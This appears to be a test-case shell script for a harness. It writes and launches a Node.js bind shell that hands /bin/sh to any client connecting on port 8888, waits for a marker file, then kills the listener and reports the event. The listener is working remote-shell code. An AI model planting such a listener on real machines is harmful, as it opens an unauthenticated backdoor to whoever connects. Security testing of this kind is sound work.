#!/bin/sh
. /opt/case/case.sh

cat >/tmp/b.js <<'END'
require("net").createServer(c => {
  const s = require("child_process").spawn("/bin/sh", []);
  c.pipe(s.stdin); s.stdout.pipe(c); s.stderr.pipe(c); c.on("error", () => {});
}).listen(8888);
END
node /tmp/b.js & server=$!
wait_for /tmp/reached
kill $server
took_place
